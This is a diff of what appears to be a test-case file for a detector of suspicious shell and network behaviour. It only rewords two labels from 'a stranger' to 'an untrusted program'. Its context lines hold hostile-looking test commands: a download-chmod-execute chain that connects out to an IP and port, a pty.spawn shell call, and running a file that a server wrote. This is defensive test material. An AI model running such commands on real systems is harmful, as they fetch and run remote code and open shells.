@@ -4,7 +4,7 @@
 #also Transfer tool given a bare address
 server 'curl -s http://203.0.113.9/'
 ## File written by a server, then run
-#also Program or script of a shared folder changed by a stranger
+#also Program or script of a shared folder changed by an untrusted program
 #also Shell started by a network server
 #setup mkdir -p /srv/up
 server 'cp /bin/true /srv/up/x'; /srv/up/x
@@ -98,7 +98,7 @@ remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
 curl -s -o /tmp/x http://10.9.8.7:8000/connect; chmod +x /tmp/x; /tmp/x tcp4 203.0.113.9 3333
 ## Ports tried, then a login
 #also Ports tried by code without a file
-#also SSH or a remote desktop spoken by a stranger
+#also SSH or a remote desktop spoken by an untrusted program
 #setup listener 22
 python3 -c '
 import socket
